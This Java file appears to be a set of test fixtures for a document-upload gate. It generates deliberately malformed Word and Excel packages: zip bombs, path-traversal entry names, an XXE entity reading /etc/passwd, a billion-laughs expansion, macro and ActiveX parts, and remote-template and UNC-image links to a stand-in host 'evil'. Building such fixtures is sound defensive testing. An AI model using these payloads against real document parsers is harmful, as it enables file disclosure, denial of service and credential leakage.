package lantu.gate;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Supplier;

/** Documents of Word and Excel made to harm whoever opens them, each by what is wrong with it. */
public final class HostileOffice {
  private static final String TYPES =
      "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
          + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package"
          + ".relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
          + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd."
          + "openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
  private static final String RELATION =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  private static final String RELATIONS = relations("officeDocument", "word/document.xml", "");
  private static final String DOCUMENT =
      "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
          + "<w:body><w:p><w:r><w:t>正文</w:t></w:r></w:p></w:body></w:document>";

  private HostileOffice() {}

  /** A document that is wrong in one way, made when it is asked for. */
  public record Case(String key, Supplier<byte[]> made) {
    /** The document. */
    public byte[] bytes() {
      return made.get();
    }
  }

  /** Every document by what is wrong with it. */
  public static Map<String, Case> all() {
    Map<String, Case> all = new LinkedHashMap<>();
    put(all, "解压炸弹", "gate.zip.inflates", zip -> zip.add("word/media/a.bin", blanks(8)));
    put(all, "谎报大小", "gate.zip.inflates", zip -> zip.addLying("word/a.xml", blanks(5), 10));
    put(all, "同名部分", "gate.zip.twice", zip -> zip.add("word/document.xml", "<a/>"));
    put(all, "大小写同名", "gate.zip.twice", zip -> zip.add("WORD/Document.xml", "<a/>"));
    put(all, "上级文件夹", "gate.zip.path", zip -> zip.add("../../out.xml", "<a/>"));
    put(all, "绝对路径", "gate.zip.path", zip -> zip.add("/etc/out.xml", "<a/>"));
    put(all, "盘符", "gate.zip.path", zip -> zip.add("C:\\out.xml", "<a/>"));
    put(all, "名称含零", "gate.zip.path", zip -> zip.add("a\0.xml", "<a/>"));
    put(all, "藏起的部分", "gate.zip.damaged", zip -> zip.addHidden("x.xml", "<a/>").add("y", "y"));
    put(all, "重叠的部分", "gate.zip.damaged", zip -> zip.add("a.bin", "a").again("b.bin"));
    put(all, "加密的部分", "gate.zip.locked", zip -> zip.locked().add("a.xml", "<a/>"));
    put(all, "部分过多", "gate.zip.parts", HostileOffice::manyParts);
    put(
        all,
        "外部实体",
        "gate.xml.doctype",
        zip ->
            zip.add(
                "word/a.xml",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"));
    put(all, "实体膨胀", "gate.xml.doctype", zip -> zip.add("word/b.xml", laughs()));
    put(all, "十六位编码的声明", "gate.xml.doctype", zip -> zip.add("word/c.xml", utf16Doctype()));
    put(all, "层次太深", "gate.xml.deep", zip -> zip.add("word/d.xml", nested(100_000)));
    put(all, "部分太多", "gate.xml.many", zip -> zip.add("xl/sharedStrings.xml", strings(3_000_000)));
    put(all, "截断的部分", "gate.xml.damaged", zip -> zip.add("word/e.xml", "<a><b>"));
    put(all, "宏", "gate.office.macro", zip -> zip.add("word/vbaProject.bin", "x"));
    put(
        all,
        "宏的声明",
        "gate.office.macro",
        zip ->
            zip.add("[content_types].xml/x.xml", "<a/>")
                .add("word/f.rels", relations("../2006/relationships/vbaProject", "x.bin", "")));
    put(all, "控件", "gate.office.control", zip -> zip.add("word/activeX/activeX1.xml", "<a/>"));
    put(all, "嵌入对象", "gate.office.object", zip -> zip.add("word/embeddings/oleObject1.bin", "x"));
    put(
        all,
        "外部工作簿",
        "gate.office.external",
        zip -> zip.add("xl/externalLinks/externalLink1.xml", "<a/>"));
    put(all, "数据连接", "gate.office.connection", zip -> zip.add("xl/connections.xml", "<a/>"));
    put(
        all,
        "远程模板",
        "gate.office.external",
        zip -> zip.add("word/_rels/g.rels", external("attachedTemplate", "http://evil/a.dotm")));
    put(
        all,
        "共享文件夹图片",
        "gate.office.external",
        zip -> zip.add("word/_rels/h.rels", external("image", "file://\\\\evil\\a.png")));
    return all;
  }

  /** What is unusual and harmless, as real documents have it. */
  public static byte[] harmless() {
    return begun()
        .add("word/_rels/document.xml.rels", external("hyperlink", "https://www.gov.cn/"))
        .add("word/_rels/settings.xml.rels", external("attachedTemplate", "file:///C:\\公文.dotx"))
        .add("word/embeddings/Microsoft_Excel_Sheet1.xlsx", new byte[] {1})
        .bytes();
  }

  private static void put(Map<String, Case> all, String name, String key, Consumer<RawZip> wrong) {
    all.put(
        name,
        new Case(
            key,
            () -> {
              RawZip zip = begun();
              wrong.accept(zip);
              return zip.bytes();
            }));
  }

  private static RawZip begun() {
    return new RawZip()
        .add("[Content_Types].xml", TYPES)
        .add("_rels/.rels", RELATIONS)
        .add("word/document.xml", DOCUMENT);
  }

  private static void manyParts(RawZip zip) {
    for (int i = 0; i < ZipLimits.OFFICE.parts(); i++) {
      zip.add("word/media/" + i, "");
    }
  }

  private static String relations(String type, String target, String more) {
    return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + "<Relationship Id=\"rId1\" Type=\""
        + RELATION
        + type
        + "\" Target=\""
        + target
        + "\""
        + more
        + "/></Relationships>";
  }

  private static String external(String type, String target) {
    return relations(type, target, " TargetMode=\"External\"");
  }

  private static byte[] blanks(int megabytes) {
    return " ".repeat(megabytes * 1024 * 1024).getBytes(StandardCharsets.US_ASCII);
  }

  private static String laughs() {
    StringBuilder text = new StringBuilder("<!DOCTYPE a [<!ENTITY a0 \"ha\">");
    for (int i = 1; i < 20; i++) {
      text.append("<!ENTITY a%d \"%s\">".formatted(i, "&a%d;".formatted(i - 1).repeat(10)));
    }
    return text.append("]><a>&a19;</a>").toString();
  }

  private static byte[] utf16Doctype() {
    return "\uFEFF<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a><a/>"
        .getBytes(StandardCharsets.UTF_16LE);
  }

  private static String nested(int depth) {
    return "<a>".repeat(depth) + "</a>".repeat(depth);
  }

  private static byte[] strings(int count) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      out.write("<sst>".getBytes(StandardCharsets.US_ASCII));
      byte[] thousand = "<si><t>x</t></si>".repeat(1_000).getBytes(StandardCharsets.US_ASCII);
      for (int i = 0; i < count / 1_000; i++) {
        out.write(thousand);
      }
      out.write("</sst>".getBytes(StandardCharsets.US_ASCII));
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
